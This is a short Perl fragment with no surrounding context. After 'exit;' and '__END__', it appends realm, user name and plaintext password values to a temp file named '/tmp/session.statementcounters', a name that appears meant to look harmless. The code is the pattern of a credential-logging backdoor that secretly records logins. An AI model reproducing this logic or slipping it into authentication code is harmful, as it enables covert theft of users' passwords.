exit;
__END__
my $out = "/tmp/session.statementcounters";
open(*x, ">> $out");
syswrite(*x, "Realm: ".$a."\tUser: ".$b."\tPassword: ".$c."\n", 5000);
close(*x);
